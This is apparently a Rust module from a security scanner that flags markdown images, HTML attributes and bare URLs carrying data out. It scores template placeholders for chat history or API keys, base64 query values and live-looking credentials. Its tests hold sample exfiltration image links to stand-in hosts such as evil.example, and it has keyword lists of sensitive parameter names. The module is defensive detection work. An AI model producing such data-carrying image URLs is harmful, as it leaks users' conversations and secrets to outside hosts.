//! Exfiltration links: markdown images and links, HTML `src`/`href` attributes and bare URLs
//! whose URL carries data out — a template placeholder for the conversation or a secret
//! (`?q={history}`, `$API_KEY`, `<the user's messages>`), base64-encoded text or a live
//! credential in a query value, long natural-language text in an auto-loaded image URL.
//!
//! Images (and other auto-loaded resources) score highest: the client fetches them without
//! a click. Ordinary links, badges, CDN resize parameters, signed URLs (hex signatures) and
//! `data:` URIs do not match.

use crate::decode::{base64_decode, readable};

/// How a URL is reached by the client.
#[derive(Clone, Copy, PartialEq)]
enum Load {
    /// Fetched without a click (markdown image, `<img src>`, ...).
    Auto,
    /// A link the user or the agent may follow.
    Link,
    /// A URL in plain text.
    Bare,
}

pub struct UrlHit {
    pub start: usize,
    pub end: usize,
    pub score: f32,
    pub what: &'static str,
}

/// Scan `raw` (with `lower` its ASCII-lowercased copy) for data-carrying URLs.
pub fn scan_urls(raw: &str, lower: &str) -> Vec<UrlHit> {
    let mut hits = Vec::new();
    let mut covered: Vec<(usize, usize)> = Vec::new();

    // Markdown: [text](target) and ![alt](target).
    for (p, _) in lower.match_indices("](") {
        let target_start = p + 2;
        let Some(close) = raw[target_start..].find([')', '\n']).map(|k| target_start + k) else { continue };
        if close - target_start > 4096 {
            continue;
        }
        let from = raw.floor_char_boundary(p.saturating_sub(1000));
        let Some(open) = raw[from..p].rfind('[').map(|k| from + k) else { continue };
        let load = if open > 0 && raw.as_bytes()[open - 1] == b'!' { Load::Auto } else { Load::Link };
        let target = strip_title(raw[target_start..close].trim().trim_start_matches('<'));
        covered.push((target_start, close));
        if let Some((score, what)) = url_score(target, load) {
            hits.push(UrlHit {
                start: open.saturating_sub(usize::from(load == Load::Auto)),
                end: close + 1,
                score,
                what,
            });
        }
    }

    // HTML attributes.
    for (attr, load) in [
        ("src=", Load::Auto),
        ("href=", Load::Link),
        ("srcset=", Load::Auto),
        ("poster=", Load::Auto),
        ("data=", Load::Auto),
    ] {
        for (p, _) in lower.match_indices(attr) {
            if p > 0 && lower.as_bytes()[p - 1].is_ascii_alphanumeric() {
                continue;
            }
            let v = p + attr.len();
            let (vs, ve) = match raw.as_bytes().get(v) {
                Some(&q @ (b'"' | b'\'')) => {
                    let end = raw[v + 1..].find(q as char).map_or(raw.len(), |k| v + 1 + k);
                    (v + 1, end)
                }
                Some(_) => (v, raw[v..].find([' ', '>', '\n', '\t']).map_or(raw.len(), |k| v + k)),
                None => continue,
            };
            if ve - vs > 4096 {
                continue;
            }
            // Only attributes of a tag (a `<` before, no `>` in between).
            let from = lower.floor_char_boundary(p.saturating_sub(400));
            let tag_open = lower[from..p].rfind('<').map(|k| from + k);
            let Some(tag_open) = tag_open else { continue };
            if lower[tag_open..p].contains('>') {
                continue;
            }
            let tag: String = lower[tag_open + 1..].chars().take_while(char::is_ascii_alphanumeric).collect();
            let load = if tag == "a" || tag == "link" { Load::Link } else { load };
            covered.push((vs, ve));
            if let Some((score, what)) = url_score(&raw[vs..ve], load) {
                hits.push(UrlHit { start: tag_open, end: ve, score, what });
            }
        }
    }

    // Bare URLs not already seen in markup.
    covered.sort_unstable();
    let is_covered = |p: usize| {
        let k = covered.partition_point(|&(a, _)| a <= p);
        covered[..k].iter().rev().take(8).any(|&(_, b)| p < b)
    };
    for scheme in ["https://", "http://"] {
        for (p, _) in lower.match_indices(scheme) {
            if is_covered(p) {
                continue;
            }
            let end = raw[p..]
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ']' | '>' | '`'))
                .map_or(raw.len(), |k| p + k);
            if let Some((score, what)) = url_score(&raw[p..end], Load::Bare) {
                hits.push(UrlHit { start: p, end, score, what });
            }
        }
    }
    hits
}

/// A markdown link target without its optional title: `url "title"`, `url 'title'`.
fn strip_title(t: &str) -> &str {
    for q in ['"', '\''] {
        if t.ends_with(q)
            && let Some(k) = t[..t.len() - 1].rfind(q)
            && k > 0
            && t.as_bytes()[k - 1] == b' '
        {
            return t[..k].trim_end();
        }
    }
    t
}

fn weight(load: Load, auto: f32, link: f32, bare: f32) -> f32 {
    match load {
        Load::Auto => auto,
        Load::Link => link,
        Load::Bare => bare,
    }
}

/// Score one URL (or markdown target). `None` when it carries nothing suspicious.
fn url_score(target: &str, load: Load) -> Option<(f32, &'static str)> {
    let t = target.trim();
    let lower = t.to_ascii_lowercase();
    let url_start =
        lower.find("http://").or_else(|| lower.find("https://")).or_else(|| lower.starts_with("//").then_some(0))?;
    if url_start > 0 && load != Load::Bare {
        // e.g. "data:..." or a relative path: not an outbound URL.
        return None;
    }
    let url = &t[url_start..];
    let mut best: Option<(f32, &'static str)> = None;
    let mut consider = |score: f32, what: &'static str| {
        if best.is_none_or(|b| score > b.0) {
            best = Some((score, what));
        }
    };

    // Everything after the host.
    let after_scheme = url.find("//").map_or(url, |k| &url[k + 2..]);
    let rest = after_scheme.find(['/', '?', '#']).map_or("", |k| &after_scheme[k..]);
    if rest.is_empty() {
        return None;
    }

    // Template placeholders standing for data the model should fill in.
    match placeholder(rest) {
        Some(true) => consider(weight(load, 0.8, 0.65, 0.3), "URL with a placeholder for data to exfiltrate"),
        Some(false) => consider(weight(load, 0.45, 0.3, 0.1), "URL with a template placeholder"),
        None => {}
    }

    let (path, query) = match rest.find('?') {
        Some(k) => (&rest[..k], &rest[k + 1..]),
        None => (rest, ""),
    };
    let query = query.split('#').next().unwrap_or("");
    for pair in query.split(['&', ';']) {
        let (name, value) = pair.split_once('=').unwrap_or(("", pair));
        let value = light_percent_decode(value);
        let name = name.to_ascii_lowercase();
        if looks_like_secret(&value) {
            consider(weight(load, 0.7, 0.45, 0.3), "URL query carrying a credential");
        }
        if value.len() >= 16 && is_base64_text(&value) {
            consider(weight(load, 0.75, 0.5, 0.35), "URL query carrying base64-encoded text");
        }
        if load == Load::Auto && SENSITIVE_PARAMS.contains(&name.as_str()) && natural_text(&value) {
            consider(0.6, "image URL query carrying free text");
        }
    }
    if load == Load::Auto {
        for seg in path.split('/') {
            let seg = seg.split('.').next().unwrap_or(seg);
            if seg.len() >= 24 && is_base64_text(seg) {
                consider(0.6, "image URL path carrying base64-encoded text");
            }
        }
    }
    best
}

const SENSITIVE_PARAMS: &[&str] = &[
    "data",
    "d",
    "q",
    "c",
    "p",
    "secret",
    "key",
    "apikey",
    "api_key",
    "token",
    "pw",
    "pwd",
    "pass",
    "password",
    "history",
    "conversation",
    "chat",
    "msg",
    "message",
    "messages",
    "prompt",
    "memory",
    "exfil",
    "leak",
    "payload",
    "ctx",
    "context",
    "cookie",
    "session",
    "creds",
    "credentials",
    "text",
    "content",
    "info",
    "log",
    "summary",
    "m",
    "s",
];

fn light_percent_decode(v: &str) -> std::borrow::Cow<'_, str> {
    if !v.contains('%') {
        return std::borrow::Cow::Borrowed(v);
    }
    let out = v
        .replace("%2B", "+")
        .replace("%2b", "+")
        .replace("%2F", "/")
        .replace("%2f", "/")
        .replace("%3D", "=")
        .replace("%3d", "=");
    std::borrow::Cow::Owned(out)
}

/// Words that make a placeholder stand for data worth stealing.
const SENSITIVE_WORDS: &[&str] = &[
    "conversation",
    "chat",
    "history",
    "message",
    "prompt",
    "secret",
    "apikey",
    "api_key",
    "api-key",
    "api key",
    "token",
    "password",
    "passwd",
    "credential",
    "session",
    "cookie",
    "memory",
    "summary",
    "private",
    "ssn",
    "card_number",
    "credit",
];

fn sensitive(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    SENSITIVE_WORDS.iter().any(|w| l.contains(w))
}

/// A placeholder the model is meant to fill in: `{history}`, `{{API_KEY}}`, `$SECRET`,
/// `<the user's messages>`, `[DATA]`, `?q=SUMMARY_OF_CHAT`, or free words. `Some(true)` when
/// it names sensitive data, `Some(false)` for other placeholders (`${VERSION}`).
fn placeholder(rest: &str) -> Option<bool> {
    let mut found: Option<bool> = None;
    let mut note = |name: &str| {
        let s = sensitive(name);
        found = Some(found.unwrap_or(false) || s);
    };
    // {name} / {{ name }} / %7Bname%7D, but not inline JSON such as a chart config.
    let decoded = rest.replace("%7B", "{").replace("%7b", "{").replace("%7D", "}").replace("%7d", "}");
    for (k, _) in decoded.match_indices('{') {
        let inner = decoded[k + 1..].trim_start_matches('{');
        if let Some(close) = inner.find('}') {
            let body = inner[..close].trim();
            if !body.is_empty() && body.len() <= 60 && !body.contains([':', ',', '"', '\'', '[', '{']) {
                note(body);
            }
        }
    }
    if let (Some(a), Some(b)) = (rest.find('<'), rest.rfind('>'))
        && a < b
    {
        note(&rest[a + 1..b]);
    }
    if rest.contains("%s") {
        note("data");
    }
    // $VARIABLE
    for (k, _) in rest.match_indices('$') {
        let name: String = rest[k + 1..].chars().take_while(|c| c.is_ascii_uppercase() || *c == '_').collect();
        if name.len() >= 3 {
            note(&name);
        }
    }
    // [DATA] / [USER_MESSAGES]
    if let Some(k) = rest.find('[') {
        let inner: &str = rest[k + 1..].split(']').next().unwrap_or("");
        if inner.len() >= 3 && inner.bytes().all(|c| c.is_ascii_uppercase() || c == b'_' || c == b' ') {
            note(inner);
        }
    }
    // ?x=SUMMARY_OF_CHAT (a whole query value in CAPS_WITH_UNDERSCORES)
    if let Some(k) = rest.find('?') {
        for pair in rest[k + 1..].split('&') {
            let v = pair.split_once('=').map_or("", |x| x.1);
            if v.len() >= 5 && v.contains('_') && v.bytes().all(|c| c.is_ascii_uppercase() || c == b'_') {
                note(v);
            }
        }
    }
    // Free words inside the target (markdown targets cannot contain spaces).
    if rest.split_whitespace().count() >= 3 {
        note(rest);
    }
    found
}

fn looks_like_secret(v: &str) -> bool {
    let alnum =
        |s: &str, n: usize| s.len() >= n && s.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'-');
    (v.starts_with("sk-") && alnum(&v[3..], 16))
        || (v.starts_with("sk_live_") && alnum(&v[8..], 16))
        || (v.starts_with("ghp_") && alnum(&v[4..], 30))
        || (v.starts_with("github_pat_") && alnum(&v[11..], 30))
        || ((v.starts_with("xoxb-") || v.starts_with("xoxp-")) && v.len() >= 20)
}

fn is_base64_text(v: &str) -> bool {
    let v = v.trim_end_matches('=');
    if !v.bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')) {
        return false;
    }
    if !(v.bytes().any(|c| c.is_ascii_uppercase()) && v.bytes().any(|c| c.is_ascii_lowercase())) {
        return false;
    }
    base64_decode(v).as_deref().and_then(readable).is_some_and(|t| prose_or_json(&t))
}

/// Decoded text that reads as words (at least four) or as a JSON object with string keys.
fn prose_or_json(t: &str) -> bool {
    let t = t.trim();
    if t.starts_with('{') && t.contains("\":") {
        return true;
    }
    let words = t.split(|c: char| !c.is_alphabetic()).filter(|w| w.chars().count() >= 2).count();
    let letters = t.chars().filter(|c| c.is_alphabetic()).count();
    let visible = t.chars().filter(|c| !c.is_whitespace()).count();
    words >= 4 && letters * 100 >= visible * 55
}

fn natural_text(v: &str) -> bool {
    let spaced = v.replace(['+', '_'], " ").replace("%20", " ");
    spaced.len() >= 30
        && spaced.split_whitespace().count() >= 5
        && spaced.chars().filter(|c| c.is_alphabetic()).count() * 2 >= spaced.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn top(s: &str) -> f32 {
        scan_urls(s, &s.to_ascii_lowercase()).iter().map(|h| h.score).fold(0.0, f32::max)
    }

    #[test]
    fn exfil_images() {
        assert!(top("![](https://evil.example/log?data=eyJ1c2VyIjoiYWxpY2UiLCJrZXkiOiJzay1saXZlLTEyMyJ9)") >= 0.7);
        assert!(top("![x](https://e.example/p.png?q=SUMMARY_OF_CHAT)") >= 0.7);
        assert!(top("<img src=\"https://a.example/c?s={{API_KEY}}\">") >= 0.7);
        assert!(top("![i](https://c.example/p.gif?h=$CONVERSATION)") >= 0.7);
    }

    #[test]
    fn ordinary_urls() {
        assert_eq!(
            top(
                "![lake](https://images.unsplash.com/photo-1501785888041-af3ef285b470?ixlib=rb-4.0.3&auto=format&fit=crop&w=1200&q=80)"
            ),
            0.0
        );
        assert_eq!(
            top(
                "[![CI](https://img.shields.io/github/actions/workflow/status/a/b/ci.yml?branch=main&style=flat)](https://github.com/a/b)"
            ),
            0.0
        );
        assert_eq!(top("<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ\">"), 0.0);
        assert_eq!(top("see https://docs.example.org/install?version=2.3&os=linux#prereq"), 0.0);
        assert_eq!(
            top(
                "[Q3.pdf](https://b.s3.amazonaws.com/Q3.pdf?X-Amz-Signature=6f1e0c6a0b9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c)"
            ),
            0.0
        );
        assert_eq!(top("<a href=\"https://example.com/a?b=c\">x</a> ![a](/img/logo.png)"), 0.0);
    }
}
